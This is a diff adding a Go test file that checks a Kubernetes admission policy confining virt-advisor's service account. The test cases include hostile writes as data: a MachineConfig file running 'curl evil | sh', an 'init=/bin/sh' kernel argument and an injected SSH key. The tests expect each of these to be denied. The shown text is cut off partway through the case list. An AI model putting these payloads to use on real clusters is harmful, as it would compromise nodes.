@@ -1,0 +1,759 @@
+// Package deploy holds the deployment manifests of virt-advisor. Its tests
+// check the admission policy that confines the server's own identity
+// (05-admission-policy.yaml): its CEL is compiled and evaluated with the
+// admission library kube-apiserver runs, against the writes the profiles
+// make and the ones they never make, and its names, fields and swap
+// configuration against the profiles. `go test ./artifacts/deploy -update`
+// regenerates the swap configuration from pkg/profiles/higherdensity.
+package deploy
+
+import (
+	"context"
+	"flag"
+	"fmt"
+	"os"
+	"path/filepath"
+	"reflect"
+	"regexp"
+	"sort"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/google/cel-go/cel"
+	admissionv1 "k8s.io/api/admissionregistration/v1"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/apimachinery/pkg/runtime"
+	"k8s.io/apimachinery/pkg/runtime/schema"
+	"k8s.io/apiserver/pkg/admission"
+	plugincel "k8s.io/apiserver/pkg/admission/plugin/cel"
+	"k8s.io/apiserver/pkg/admission/plugin/policy/validating"
+	"k8s.io/apiserver/pkg/admission/plugin/webhook/matchconditions"
+	celconfig "k8s.io/apiserver/pkg/apis/cel"
+	"k8s.io/apiserver/pkg/authentication/user"
+	"k8s.io/apiserver/pkg/cel/environment"
+	"sigs.k8s.io/yaml"
+
+	"github.com/kubevirt/virt-advisor/pkg/controller"
+	"github.com/kubevirt/virt-advisor/pkg/profiles"
+)
+
+var update = flag.Bool("update", false, "regenerate the swap configuration in "+policyFile+" from the profile")
+
+const (
+	policyFile = "05-admission-policy.yaml"
+	// serverUser is the service account of 01-serviceaccount.yaml.
+	serverUser = "system:serviceaccount:virt-advisor:virt-advisor-apiserver"
+)
+
+// readManifests decodes the documents of a manifest file.
+func readManifests(t *testing.T, file string) []map[string]interface{} {
+	t.Helper()
+	raw, err := os.ReadFile(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var docs []map[string]interface{}
+	for _, doc := range regexp.MustCompile(`(?m)^---\s*$`).Split(string(raw), -1) {
+		var m map[string]interface{}
+		if err := yaml.Unmarshal([]byte(doc), &m); err != nil {
+			t.Fatalf("%s: %v", file, err)
+		}
+		if m != nil {
+			docs = append(docs, m)
+		}
+	}
+	return docs
+}
+
+func readPolicy(t *testing.T) (*admissionv1.ValidatingAdmissionPolicy, *admissionv1.ValidatingAdmissionPolicyBinding) {
+	t.Helper()
+	var policy *admissionv1.ValidatingAdmissionPolicy
+	var binding *admissionv1.ValidatingAdmissionPolicyBinding
+	for _, doc := range readManifests(t, policyFile) {
+		var into interface{}
+		switch doc["kind"] {
+		case "ValidatingAdmissionPolicy":
+			policy = &admissionv1.ValidatingAdmissionPolicy{}
+			into = policy
+		case "ValidatingAdmissionPolicyBinding":
+			binding = &admissionv1.ValidatingAdmissionPolicyBinding{}
+			into = binding
+		default:
+			t.Fatalf("%s: unexpected kind %v", policyFile, doc["kind"])
+		}
+		if err := runtime.DefaultUnstructuredConverter.FromUnstructuredWithValidation(doc, into, true); err != nil {
+			t.Fatalf("%s: %v", policyFile, err)
+		}
+	}
+	if policy == nil || binding == nil {
+		t.Fatalf("%s must hold a ValidatingAdmissionPolicy and its binding", policyFile)
+	}
+	return policy, binding
+}
+
+// compile builds the policy's validator as kube-apiserver's
+// ValidatingAdmissionPolicy plugin does (validating.compilePolicy).
+func compile(t *testing.T, p *admissionv1.ValidatingAdmissionPolicy) validating.Validator {
+	t.Helper()
+	vars := plugincel.OptionalVariableDeclarations{HasAuthorizer: true}
+	messageVars := plugincel.OptionalVariableDeclarations{}
+	compiler, err := plugincel.NewCompositedCompiler(environment.MustBaseEnvSet(environment.DefaultCompatibilityVersion()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var variables []plugincel.NamedExpressionAccessor
+	for _, v := range p.Spec.Variables {
+		variables = append(variables, &validating.Variable{Name: v.Name, Expression: v.Expression})
+	}
+	compiler.CompileAndStoreVariables(variables, vars, environment.StoredExpressions)
+	var conditions []plugincel.ExpressionAccessor
+	for i := range p.Spec.MatchConditions {
+		conditions = append(conditions, (*matchconditions.MatchCondition)(&p.Spec.MatchConditions[i]))
+	}
+	matcher := matchconditions.NewMatcher(compiler.CompileCondition(conditions, vars, environment.StoredExpressions), p.Spec.FailurePolicy, "policy", "validate", p.Name)
+	validations := make([]plugincel.ExpressionAccessor, len(p.Spec.Validations))
+	messages := make([]plugincel.ExpressionAccessor, len(p.Spec.Validations))
+	for i, v := range p.Spec.Validations {
+		validations[i] = &validating.ValidationCondition{Expression: v.Expression, Message: v.Message, Reason: v.Reason}
+		if v.MessageExpression != "" {
+			messages[i] = &validating.MessageExpressionCondition{MessageExpression: v.MessageExpression}
+		}
+	}
+	return validating.NewValidator(
+		compiler.CompileCondition(validations, vars, environment.StoredExpressions),
+		matcher,
+		compiler.CompileCondition(nil, vars, environment.StoredExpressions),
+		compiler.CompileCondition(messages, messageVars, environment.StoredExpressions),
+		p.Spec.FailurePolicy, nil)
+}
+
+// request is one write to the main cluster.
+type request struct {
+	user        string // serverUser if empty
+	op          admission.Operation
+	gvr         schema.GroupVersionResource
+	subresource string
+	obj, old    *unstructured.Unstructured
+}
+
+// review evaluates the policy on a request as kube-apiserver would once
+// its resource rules matched: "" when admitted, else the denial (or the
+// evaluation error, which failurePolicy Fail turns into a denial).
+func review(t *testing.T, v validating.Validator, r request) string {
+	t.Helper()
+	if r.user == "" {
+		r.user = serverUser
+	}
+	named := r.obj
+	if named == nil {
+		named = r.old
+	}
+	var obj, old runtime.Object
+	if r.obj != nil {
+		obj = r.obj
+	}
+	if r.old != nil {
+		old = r.old
+	}
+	gvk := named.GroupVersionKind()
+	attrs := admission.NewAttributesRecord(obj, old, gvk, named.GetNamespace(), named.GetName(), r.gvr, r.subresource, r.op, nil, false,
+		&user.DefaultInfo{Name: r.user})
+	versioned := &admission.VersionedAttributes{Attributes: attrs, VersionedKind: gvk, VersionedObject: obj, VersionedOldObject: old}
+	result := v.Validate(context.Background(), r.gvr, versioned, nil, nil, celconfig.RuntimeCELCostBudget, nil)
+	var denials []string
+	for _, d := range result.Decisions {
+		switch d.Action {
+		case validating.ActionAdmit:
+		case validating.ActionDeny:
+			denials = append(denials, d.Message)
+		default:
+			denials = append(denials, fmt.Sprintf("%s: %s", d.Action, d.Message))
+		}
+	}
+	return strings.Join(denials, "; ")
+}
+
+// literal evaluates a policy variable that is a literal (names, fields,
+// the swap configuration) into Go values.
+func literal(t *testing.T, p *admissionv1.ValidatingAdmissionPolicy, name string) interface{} {
+	t.Helper()
+	for _, v := range p.Spec.Variables {
+		if v.Name != name {
+			continue
+		}
+		env, err := cel.NewEnv()
+		if err != nil {
+			t.Fatal(err)
+		}
+		ast, iss := env.Compile(v.Expression)
+		if iss.Err() != nil {
+			t.Fatalf("variable %s: %v", name, iss.Err())
+		}
+		prg, err := env.Program(ast)
+		if err != nil {
+			t.Fatal(err)
+		}
+		out, _, err := prg.Eval(cel.NoVars())
+		if err != nil {
+			t.Fatalf("variable %s: %v", name, err)
+		}
+		native, err := out.ConvertToNative(reflect.TypeOf((*interface{})(nil)).Elem())
+		if err != nil {
+			t.Fatalf("variable %s: %v", name, err)
+		}
+		return normalize(native)
+	}
+	t.Fatalf("%s has no variable %s", policyFile, name)
+	return nil
+}
+
+// normalize turns CEL's native maps and lists into the JSON-like values
+// of unstructured objects.
+func normalize(v interface{}) interface{} {
+	rv := reflect.ValueOf(v)
+	switch rv.Kind() {
+	case reflect.Map:
+		out := map[string]interface{}{}
+		for _, k := range rv.MapKeys() {
+			out[fmt.Sprint(normalize(k.Interface()))] = normalize(rv.MapIndex(k).Interface())
+		}
+		return out
+	case reflect.Slice:
+		out := make([]interface{}, rv.Len())
+		for i := range out {
+			out[i] = normalize(rv.Index(i).Interface())
+		}
+		return out
+	case reflect.Int, reflect.Int32, reflect.Int64:
+		return rv.Int()
+	case reflect.Uint, reflect.Uint32, reflect.Uint64:
+		return int64(rv.Uint())
+	}
+	if iv, ok := v.(interface{ Value() interface{} }); ok {
+		return normalize(iv.Value())
+	}
+	return v
+}
+
+func TestPolicyAndBinding(t *testing.T) {
+	policy, binding := readPolicy(t)
+	if binding.Spec.PolicyName != policy.Name || binding.Name != policy.Name {
+		t.Errorf("binding %s binds %s, want both named %s (the denial names both)", binding.Name, binding.Spec.PolicyName, policy.Name)
+	}
+	if !reflect.DeepEqual(binding.Spec.ValidationActions, []admissionv1.ValidationAction{admissionv1.Deny}) {
+		t.Errorf("validationActions %v, want [Deny]", binding.Spec.ValidationActions)
+	}
+	if binding.Spec.ParamRef != nil || binding.Spec.MatchResources != nil {
+		t.Errorf("the binding must apply the policy as it is, everywhere")
+	}
+	if fp := policy.Spec.FailurePolicy; fp == nil || *fp != admissionv1.Fail {
+		t.Errorf("failurePolicy %v, want Fail: an expression that cannot be evaluated must not let a write through", fp)
+	}
+	// The service account the policy confines is the deployment's.
+	var sa map[string]interface{}
+	for _, doc := range readManifests(t, "01-serviceaccount.yaml") {
+		if doc["kind"] == "ServiceAccount" {
+			sa = doc
+		}
+	}
+	meta := sa["metadata"].(map[string]interface{})
+	if want := fmt.Sprintf("system:serviceaccount:%s:%s", meta["namespace"], meta["name"]); want != serverUser {
+		t.Fatalf("serverUser %s, but 01-serviceaccount.yaml makes %s", serverUser, want)
+	}
+	v := compile(t, policy)
+	if err := v.(interface{ CompileError() error }).CompileError(); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestAllowsWhatTheProfilesWrite: every write the profiles make, in every
+// configuration, on the test environment's baseline objects and on
+// objects an administrator made first, is admitted; so are the pool
+// pauses and unpauses of the controller.
+func TestAllowsWhatTheProfilesWrite(t *testing.T) {
+	policy, _ := readPolicy(t)
+	v := compile(t, policy)
+	admit := func(name string, r request) {
+		t.Helper()
+		if denied := review(t, v, r); denied != "" {
+			t.Errorf("%s: denied: %s", name, denied)
+		}
+	}
+	for _, hcoVersion := range []string{profiles.HCOVersionV1beta1, profiles.HCOVersionV1} {
+		for _, crd := range deschedulerCRDs(t) {
+			for _, vr := range variants() {
+				if vr.profile.Metadata().Name != "load-aware-rebalancing" && crd != deschedulerCRDs(t)[0] {
+					continue // only load-aware-rebalancing adapts to the descheduler level
+				}
+				c := newCluster(t, hcoVersion, crd)
+				config := vr.profile.Metadata().Name
+				for _, it := range items(t, vr, c) {
+					name := fmt.Sprintf("%s (HCO %s, %s): %s", vr.name, hcoVersion, filepath.Base(crd), it.Name)
+					gvr := gvrOf(it.Desired)
+					if it.Absent {
+						admit(name+": delete", request{op: admission.Delete, gvr: gvr, old: created(it.Desired, config)})
+						continue
+					}
+					live, _ := c.Get(context.Background(), it.Desired.GroupVersionKind(), it.Desired.GetNamespace(), it.Desired.GetName())
+					if live == nil { // a create, then the same apply again
+						obj := created(it.Desired, config)
+						admit(name+": create", request{op: admission.Create, gvr: gvr, obj: obj})
+						admit(name+": apply again", request{op: admission.Update, gvr: gvr, obj: applied(obj, it.Desired), old: obj})
+						// Someone else's object of that name: configured, never labelled ours.
+						theirs := theirs(it.Desired)
+						ours := it.Desired.DeepCopy()
+						labels := ours.GetLabels()
+						delete(labels, profiles.ManagedByLabel)
+						ours.SetLabels(labels)
+						admit(name+": configure an administrator's object", request{op: admission.Update, gvr: gvr, obj: applied(theirs, ours), old: theirs})
+						continue
+					}
+					obj := applied(live, it.Desired)
+					admit(name+": update", request{op: admission.Update, gvr: gvr, obj: obj, old: live})
+					if it.Desired.GetKind() == "HyperConverged" && !strings.Contains(vr.name, "KSM") {
+						// KSM turned off later: our ksmConfiguration is withdrawn.
+						ksm := profiles.HCOFieldPath(hcoVersion, "ksmConfiguration")
+						admit(name+": withdraw KSM", request{op: admission.Update, gvr: gvr, obj: withdrawn(obj, ksm...), old: obj})
+					}
+				}
+			}
+		}
+	}
+	// The controller's pause of a pool for the coalescing window, and
+	// its unpause (an apply without spec.paused and the annotation).
+	for _, pool := range []string{"worker", "worker-cnv"} {
+		old := readObject(t, filepath.Join("..", "testdata", "baseline.yaml"), "MachineConfigPool")
+		old.SetName(pool)
+		paused := edited(old, func(o map[string]interface{}) {
+			set(o, true, "spec", "paused")
+			set(o, "2026-01-01T00:00:31Z", "metadata", "annotations", controller.PausedUntilAnnotation)
+		})
+		admit(pool+": pause", request{op: admission.Update, gvr: machineConfigPools, obj: paused, old: old})
+		unpaused := withdrawn(paused, "spec", "paused")
+		unstructured.RemoveNestedField(unpaused.Object, "metadata", "annotations", controller.PausedUntilAnnotation)
+		admit(pool+": unpause", request{op: admission.Update, gvr: machineConfigPools, obj: unpaused, old: paused})
+	}
+}
+
+// theirs is an object of the desired one's name that an administrator
+// made: other labels and fields beside ours.
+func theirs(desired *unstructured.Unstructured) *unstructured.Unstructured {
+	o := &unstructured.Unstructured{Object: map[string]interface{}{
+		"apiVersion": desired.GetAPIVersion(), "kind": desired.GetKind(),
+		"metadata": map[string]interface{}{"name": desired.GetName(), "uid": "their-uid", "resourceVersion": "5", "generation": int64(1),
+			"creationTimestamp": "2025-01-01T00:00:00Z", "labels": map[string]interface{}{"team": "platform"},
+			"annotations": map[string]interface{}{"owner": "admin"}},
+	}}
+	if ns := desired.GetNamespace(); ns != "" {
+		o.SetNamespace(ns)
+	}
+	switch desired.GetKind() {
+	case "MachineConfig":
+		labels := o.GetLabels()
+		labels[profiles.MachineConfigRoleLabel] = desired.GetLabels()[profiles.MachineConfigRoleLabel]
+		o.SetLabels(labels)
+		o.Object["spec"] = map[string]interface{}{"kernelArguments": []interface{}{"admin=1"}, "fips": false}
+	case "ConfigMap":
+		o.Object["data"] = map[string]interface{}{"example-key": "by-hand", "other": "kept"}
+	}
+	return o
+}
+
+// profileTargets is what the profiles write, over every configuration.
+type profileTargets struct {
+	objects     map[string][]string // resource -> [namespace/]names
+	roles       map[string]string   // MachineConfig -> pool
+	fields      map[string][]string // resource or resource:name -> managed fields (without "spec.")
+	swapConfig  map[string]interface{}
+	psiArgs     [][]interface{}
+	exampleData []string
+}
+
+func collectTargets(t *testing.T) profileTargets {
+	t.Helper()
+	pt := profileTargets{objects: map[string][]string{}, roles: map[string]string{}, fields: map[string][]string{}}
+	add := func(list []string, v ...string) []string {
+		for _, s := range v {
+			if !contains(list, s) {
+				list = append(list, s)
+			}
+		}
+		return list
+	}
+	for _, hcoVersion := range []string{profiles.HCOVersionV1beta1, profiles.HCOVersionV1} {
+		for _, crd := range deschedulerCRDs(t) {
+			for _, vr := range variants() {
+				for _, it := range items(t, vr, newCluster(t, hcoVersion, crd)) {
+					d := it.Desired
+					gvr := gvrOf(d)
+					resource := gvr.Group + "/" + gvr.Resource
+					key := d.GetName()
+					if d.GetNamespace() != "" {
+						key = d.GetNamespace() + "/" + key
+					}
+					pt.objects[resource] = add(pt.objects[resource], key)
+					fieldsKey := resource
+					if d.GetKind() == "MachineConfig" {
+						pt.roles[d.GetName()] = d.GetLabels()[profiles.MachineConfigRoleLabel]
+						fieldsKey += ":" + d.GetName()
+					}
+					for _, f := range it.ManagedFields {
+						pt.fields[fieldsKey] = add(pt.fields[fieldsKey], strings.TrimPrefix(f, "spec."))
+					}
+					switch {
+					case it.Absent:
+					case d.GetName() == "90-worker-kubelet-swap":
+						pt.swapConfig, _, _ = unstructured.NestedMap(d.Object, "spec", "config")
+					case strings.HasSuffix(d.GetName(), "-psi-karg"):
+						args, _, _ := unstructured.NestedSlice(d.Object, "spec", "kernelArguments")
+						pt.psiArgs = append(pt.psiArgs, args)
+					case d.GetKind() == "ConfigMap":
+						for k := range d.Object["data"].(map[string]interface{}) {
+							pt.exampleData = add(pt.exampleData, k)
+						}
+					}
+				}
+			}
+		}
+	}
+	return pt
+}
+
+func contains(list []string, s string) bool {
+	for _, v := range list {
+		if v == s {
+			return true
+		}
+	}
+	return false
+}
+
+func sameSet(a, b []string) bool {
+	if len(a) != len(b) {
+		return false
+	}
+	for _, s := range a {
+		if !contains(b, s) {
+			return false
+		}
+	}
+	return true
+}
+
+func stringList(t *testing.T, v interface{}) []string {
+	t.Helper()
+	var out []string
+	for _, s := range v.([]interface{}) {
+		out = append(out, s.(string))
+	}
+	return out
+}
+
+// TestPolicyNamesWhatTheProfilesWrite: the objects, pools, fields,
+// labels and annotations the policy allows are exactly those the
+// profiles and the controller write, and the swap configuration is the
+// profile's (regenerated with -update).
+func TestPolicyNamesWhatTheProfilesWrite(t *testing.T) {
+	policy, _ := readPolicy(t)
+	pt := collectTargets(t)
+
+	objects := literal(t, policy, "objects").(map[string]interface{})
+	for resource, want := range pt.objects {
+		if resource == "machineconfiguration.openshift.io/machineconfigpools" {
+			continue
+		}
+		got, ok := objects[resource]
+		if !ok || !sameSet(stringList(t, got), want) {
+			t.Errorf("objects[%s] = %v, the profiles write %v", resource, got, want)
+		}
+	}
+	if len(objects) != len(pt.objects) {
+		t.Errorf("objects names %d resources, the profiles write %d: %v", len(objects), len(pt.objects), objects)
+	}
+	roles := literal(t, policy, "machineConfigRoles").(map[string]interface{})
+	if len(roles) != len(pt.roles) {
+		t.Errorf("machineConfigRoles = %v, the profiles write %v", roles, pt.roles)
+	}
+	for name, role := range pt.roles {
+		if roles[name] != role {
+			t.Errorf("machineConfigRoles[%s] = %v, the profile writes it for pool %s", name, roles[name], role)
+		}
+	}
+
+	ownSpec := literal(t, policy, "ownSpecByResource").(map[string]interface{})
+	hco := "hco.kubevirt.io/hyperconvergeds"
+	for key, want := range pt.fields {
+		if key == hco || key == "/configmaps" {
+			continue
+		}
+		if got, ok := ownSpec[key]; !ok || !sameSet(stringList(t, got), want) {
+			t.Errorf("ownSpecByResource[%s] = %v, the profiles manage %v", key, got, want)
+		}
+	}
+	// The HyperConverged rule is written for exactly these fields, in
+	// both versions; a profile managing another one needs it extended.
+	hcoFields := []string{"higherWorkloadDensity.memoryOvercommitPercentage", "ksmConfiguration",
+		"virtualization.higherWorkloadDensity.memoryOvercommitPercentage", "virtualization.ksmConfiguration"}
+	if !sameSet(pt.fields[hco], hcoFields) {
+		t.Errorf("the profiles manage %v of the HyperConverged; the policy's HyperConverged rule handles %v: extend it", pt.fields[hco], hcoFields)
+	}
+	if got := stringList(t, ownSpec[hco]); !sameSet(got, []string{"ksmConfiguration", "higherWorkloadDensity", "virtualization"}) {
+		t.Errorf("ownSpecByResource[%s] = %v", hco, got)
+	}
+	// The example ConfigMap's data is managed whole (the policy leaves
+	// the data of that one ConfigMap free).
+	if got := pt.fields["/configmaps"]; !sameSet(got, []string{"data"}) {
+		t.Errorf("example-profile manages %v of its ConfigMap, the policy allows data", got)
+	}
+	if got := stringList(t, ownSpec["machineconfiguration.openshift.io/machineconfigpools"]); !sameSet(got, []string{"paused"}) {
+		t.Errorf("ownSpecByResource[pools] = %v, the controller applies spec.paused only", got)
+	}
+
+	annotations := literal(t, policy, "ownAnnotationsByResource").(map[string]interface{})
+	if got := stringList(t, annotations["machineconfiguration.openshift.io/machineconfigpools"]); !sameSet(got, []string{controller.PausedUntilAnnotation}) || len(annotations) != 1 {
+		t.Errorf("ownAnnotationsByResource = %v, the controller sets %s on pools only", annotations, controller.PausedUntilAnnotation)
+	}
+	labels := literal(t, policy, "ownLabelsByResource").(map[string]interface{})
+	if got := stringList(t, labels["machineconfiguration.openshift.io/machineconfigs"]); !sameSet(got, []string{profiles.ManagedByLabel, profiles.MachineConfigRoleLabel}) {
+		t.Errorf("own MachineConfig labels %v", got)
+	}
+	if got := stringList(t, labels["/configmaps"]); !sameSet(got, []string{profiles.ManagedByLabel}) || len(labels) != 2 {
+		t.Errorf("own labels %v", labels)
+	}
+	for _, args := range pt.psiArgs {
+		if !reflect.DeepEqual(args, []interface{}{"psi=1"}) {
+			t.Errorf("a PSI MachineConfig sets kernel arguments %v; the policy allows psi=1 only", args)
+		}
+	}
+
+	// The swap configuration: exactly these three fields, pinned.
+	generated := swapBlock(t, pt.swapConfig)
+	raw, err := os.ReadFile(policyFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	start, end := strings.Index(string(raw), generatedStart), strings.Index(string(raw), generatedEnd)
+	if start < 0 || end < start {
+		t.Fatalf("%s: no %q ... %q block", policyFile, generatedStart, generatedEnd)
+	}
+	if current := string(raw[start:end]); current != generated {
+		if !*update {
+			t.Fatalf("the swap configuration in %s is not the profile's: run `go test ./artifacts/deploy -update`", policyFile)
+		}
+		out := string(raw[:start]) + generated + string(raw[end:])
+		if err := os.WriteFile(policyFile, []byte(out), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		t.Logf("wrote the swap configuration into %s", policyFile)
+		policy, _ = readPolicy(t)
+	}
+	for name, want := range map[string]interface{}{
+		"swapIgnitionVersion": pt.swapConfig["ignition"].(map[string]interface{})["version"],
+		"swapFiles":           pt.swapConfig["storage"].(map[string]interface{})["files"],
+		"swapUnits":           pt.swapConfig["systemd"].(map[string]interface{})["units"],
+	} {
+		if got := literal(t, policy, name); !reflect.DeepEqual(got, want) {
+			t.Errorf("%s evaluates to\n%#v\nthe profile writes\n%#v", name, got, want)
+		}
+	}
+}
+
+const (
+	generatedStart = "  # GENERATED from pkg/profiles/higherdensity"
+	generatedEnd   = "  # END GENERATED"
+)
+
+// swapBlock is the generated part of the policy: the swap
+// configuration's Ignition version, files and units as CEL literals.
+func swapBlock(t *testing.T, config map[string]interface{}) string {
+	t.Helper()
+	keys := func(m map[string]interface{}) []string {
+		var out []string
+		for k := range m {
+			out = append(out, k)
+		}
+		sort.Strings(out)
+		return out
+	}
+	// Anything else in spec.config would not be checked by the policy.
+	want := map[string][]string{"": {"ignition", "storage", "systemd"}, "ignition": {"version"}, "storage": {"files"}, "systemd": {"units"}}
+	if got := keys(config); !reflect.DeepEqual(got, want[""]) {
+		t.Fatalf("the swap MachineConfig's spec.config has %v; the policy checks %v: extend its swap rule", got, want[""])
+	}
+	for _, k := range want[""] {
+		if got := keys(config[k].(map[string]interface{})); !reflect.DeepEqual(got, want[k]) {
+			t.Fatalf("the swap MachineConfig's spec.config.%s has %v; the policy checks %v: extend its swap rule", k, got, want[k])
+		}
+	}
+	var b strings.Builder
+	b.WriteString(generatedStart + " by `go test ./artifacts/deploy -update`: do not edit.\n")
+	for _, v := range []struct {
+		name  string
+		value interface{}
+	}{
+		{"swapIgnitionVersion", config["ignition"].(map[string]interface{})["version"]},
+		{"swapFiles", config["storage"].(map[string]interface{})["files"]},
+		{"swapUnits", config["systemd"].(map[string]interface{})["units"]},
+	} {
+		fmt.Fprintf(&b, "  - name: %s\n    expression: |-\n      %s\n", v.name, celLiteral(v.value, "      "))
+	}
+	return b.String()
+}
+
+// celLiteral writes a JSON-like value as a CEL literal. Aggregates of
+// mixed types wrap their elements in dyn(): CEL rejects heterogeneous
+// literals otherwise.
+func celLiteral(v interface{}, indent string) string {
+	inner := indent + "  "
+	switch x := v.(type) {
+	case map[string]interface{}:
+		var keys []string
+		kinds := map[string]bool{}
+		for k, e := range x {
+			keys = append(keys, k)
+			kinds[fmt.Sprintf("%T", e)] = true
+		}
+		sort.Strings(keys)
+		var b strings.Builder
+		b.WriteString("{\n")
+		for _, k := range keys {
+			e := celLiteral(x[k], inner)
+			if len(kinds) > 1 {
+				e = "dyn(" + e + ")"
+			}
+			fmt.Fprintf(&b, "%s%s: %s,\n", inner, strconv.Quote(k), e)
+		}
+		return b.String() + indent + "}"
+	case []interface{}:
+		var b strings.Builder
+		b.WriteString("[\n")
+		for _, e := range x {
+			fmt.Fprintf(&b, "%sdyn(%s),\n", inner, celLiteral(e, inner))
+		}
+		return b.String() + indent + "]"
+	case string:
+		return strconv.Quote(x)
+	case int64:
+		return strconv.FormatInt(x, 10)
+	case int:
+		return strconv.Itoa(x)
+	case bool:
+		return strconv.FormatBool(x)
+	}
+	panic(fmt.Sprintf("no CEL literal for %T", v))
+}
+
+// TestDeniesEverythingElse: what a compromised server could do with its
+// RBAC, and the profiles never do, is denied with a message naming what
+// is allowed; other users are not concerned.
+func TestDeniesEverythingElse(t *testing.T) {
+	policy, _ := readPolicy(t)
+	v := compile(t, policy)
+	c := newCluster(t, profiles.HCOVersionV1beta1, deschedulerCRDs(t)[0])
+	desired := map[string]*unstructured.Unstructured{}
+	for _, vr := range variants() {
+		for _, it := range items(t, vr, c) {
+			if !it.Absent {
+				desired[it.Name] = it.Desired
+			}
+		}
+	}
+	psi := created(desired["enable-psi-metrics"], "load-aware-rebalancing")
+	swap := created(desired["enable-kubelet-swap"], "virt-higher-density")
+	pool := readObject(t, filepath.Join("..", "testdata", "baseline.yaml"), "MachineConfigPool")
+	hcoObj, _ := c.Get(context.Background(), profiles.HyperConvergedGVK.GroupVersion().WithKind("HyperConverged"), profiles.HCONamespace, profiles.HCOName)
+	kd, _ := c.Get(context.Background(), profiles.KubeDeschedulerGVK, profiles.DeschedulerNamespace, profiles.DeschedulerName)
+	cm := created(desired["configure-example-component"], "example-profile")
+	renamed := func(o *unstructured.Unstructured, ns, name string) *unstructured.Unstructured {
+		r := o.DeepCopy()
+		r.SetNamespace(ns)
+		r.SetName(name)
+		return r
+	}
+	evil := created(desired["enable-psi-metrics"], "load-aware-rebalancing")
+	evil.SetName("00-worker-evil")
+
+	for _, tc := range []struct {
+		name string
+		r    request
+		want string // in the denial; "" when admitted
+	}{
+		{"a MachineConfig of another name", request{op: admission.Create, gvr: machineConfigs, obj: evil},
+			"virt-advisor-apiserver writes only the machineconfiguration.openshift.io/machineconfigs 99-worker-psi-karg, 99-master-psi-karg, 90-worker-kubelet-swap, not 00-worker-evil"},
+		{"the same by another user", request{user: "system:admin", op: admission.Create, gvr: machineConfigs, obj: evil}, ""},
+		{"a worker MachineConfig for the master pool", request{op: admission.Create, gvr: machineConfigs, obj: changed(psi, func(o map[string]interface{}) {
+			set(o, "master", "metadata", "labels", profiles.MachineConfigRoleLabel)
+		})}, "writes MachineConfig 99-worker-psi-karg only for pool worker"},
+		{"a kernel argument other than psi=1", request{op: admission.Create, gvr: machineConfigs, obj: changed(psi, func(o map[string]interface{}) {
+			set(o, []interface{}{"psi=1", "init=/bin/sh"}, "spec", "kernelArguments")
+		})}, "adds no kernel argument to 99-worker-psi-karg but psi=1"},
+		{"another field of a PSI MachineConfig", request{op: admission.Update, gvr: machineConfigs, old: psi, obj: edited(psi, func(o map[string]interface{}) {
+			set(o, []interface{}{"usbguard"}, "spec", "extensions")
+		})}, "changes only spec.kernelArguments of machineconfiguration.openshift.io/machineconfigs 99-worker-psi-karg"},
+		{"a swap MachineConfig running another script", request{op: admission.Create, gvr: machineConfigs, obj: changed(swap, func(o map[string]interface{}) {
+			files, _, _ := unstructured.NestedSlice(o, "spec", "config", "storage", "files")
+			files[0].(map[string]interface{})["contents"] = map[string]interface{}{"source": "data:,curl%20evil%20%7C%20sh"}
+			set(o, files, "spec", "config", "storage", "files")
+		})}, "writes only the swap configuration of virt-higher-density"},
+		{"a user added to the swap MachineConfig", request{op: admission.Update, gvr: machineConfigs, old: swap, obj: edited(swap, func(o map[string]interface{}) {
+			set(o, map[string]interface{}{"users": []interface{}{map[string]interface{}{"name": "core", "sshAuthorizedKeys": []interface{}{"ssh-ed25519 AAAA"}}}}, "spec", "config", "passwd")
+		})}, "writes only the swap configuration of virt-higher-density"},
+		{"an annotation on a MachineConfig", request{op: admission.Update, gvr: machineConfigs, old: psi, obj: edited(psi, func(o map[string]interface{}) {
+			set(o, "x", "metadata", "annotations", "machineconfiguration.openshift.io/some")
+		})}, "sets no annotation of 99-worker-psi-karg"},
+		{"a MachineConfig with an owner", request{op: admission.Create, gvr: machineConfigs, obj: changed(psi, func(o map[string]interface{}) {
+			set(o, []interface{}{"foregroundDeletion"}, "metadata", "finalizers")
+		})}, "creates 99-worker-psi-karg with name, namespace, labels and annotations only, not finalizers"},
+		{"a MachineConfig's status", request{op: admission.Update, gvr: machineConfigs, subresource: "status", old: psi, obj: psi}, "writes no subresource"},
+		{"deleting 00-worker", request{op: admission.Delete, gvr: machineConfigs, old: renamed(psi, "", "00-worker")}, "not 00-worker"},
+		{"a pool's maxUnavailable", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pool, func(o map[string]interface{}) {
+			set(o, int64(3), "spec", "maxUnavailable")
+		})}, "changes only spec.paused of machineconfiguration.openshift.io/machineconfigpools worker"},
+		{"a pool's machineConfigSelector", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pool, func(o map[string]interface{}) {
+			set(o, map[string]interface{}{"matchLabels": map[string]interface{}{"evil": "yes"}}, "spec", "machineConfigSelector")
+		})}, "changes only spec.paused"},
+		{"a pool's label", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pool, func(o map[string]interface{}) {
+			set(o, "x", "metadata", "labels", "custom")
+		})}, "sets no label of worker"},
+		{"another annotation on a pool", request{op: admission.Update, gvr: machineConfigPools, old: pool, obj: edited(pool, func(o map[string]interface{}) {
+			set(o, "x", "metadata", "annotations", "machineconfiguration.openshift.io/other")
+		})}, "sets no annotation of worker but advisor.kubevirt.io/paused-until"},
+		{"a pool's status", request{op: admission.Update, gvr: machineConfigPools, subresource: "status", old: pool, obj: pool}, "writes no subresource (machineconfiguration.openshift.io/machineconfigpools/status)"},
+		{"deleting a pool", request{op: admission.Delete, gvr: machineConfigPools, old: pool}, "may not DELETE machineconfiguration.openshift.io/machineconfigpools (only UPDATE)"},
+		{"an HCO field no profile manages", request{op: admission.Update, gvr: hyperConvergeds("v1beta1"), old: hcoObj, obj: edited(hcoObj, func(o map[string]interface{}) {
+			set(o, int64(50), "spec", "liveMigrationConfig", "parallelMigrationsPerCluster")
+		})}, "changes only memoryOvercommitPercentage and ksmConfiguration (under spec or spec.virtualization) of the HyperConverged"},
+		{"an HCO field beside memoryOvercommitPercentage", request{op: admission.Update, gvr: hyperConvergeds("v1beta1"), old: hcoObj, obj: edited(hcoObj, func(o map[string]interface{}) {
